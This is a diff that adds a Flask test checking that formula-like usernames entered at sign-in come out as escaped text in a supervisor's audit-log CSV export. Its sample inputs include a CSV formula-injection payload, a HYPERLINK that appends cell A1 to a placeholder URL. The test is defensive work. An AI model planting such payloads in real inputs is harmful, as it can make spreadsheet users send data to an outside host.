@@ -46,3 +46,25 @@ def test_compliance_report_page_and_csv(client: FlaskClient, rt: Runtime) -> Non
     assert page.status_code == 200 and b"Download as CSV" in page.data
     export = client.get("/console/reports/compliance?start=2026-11-01&end=2026-11-27&format=csv")
     assert export.status_code == 200 and export.mimetype == "text/csv"
+
+
+def test_a_formula_typed_as_a_username_is_exported_as_text(
+    client: FlaskClient, rt: Runtime
+) -> None:
+    """The issue's example: `=HYPERLINK(...)` typed at sign-in, then exported by a supervisor."""
+    typed = [
+        '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
+        "\t=1+1",
+        "\r=1+1",
+        "\uff1dHYPERLINK(1)",
+        "@SUM(1)",
+    ]
+    for username in typed:
+        login(client, username, "not a password at all", code="")
+    signed_in(client, rt, "huw", OfficerRole.SUPERVISOR)
+    export = client.get("/console/audit.csv?action=login_failed").get_data(as_text=True)
+    actors = [r["actor"] for r in csv.DictReader(io.StringIO(export))]
+    assert len(actors) == len(typed)
+    for actor in actors:
+        assert actor.startswith("'"), actor
+    assert {a[1:] for a in actors} == {t.strip().lower()[:64] for t in typed}
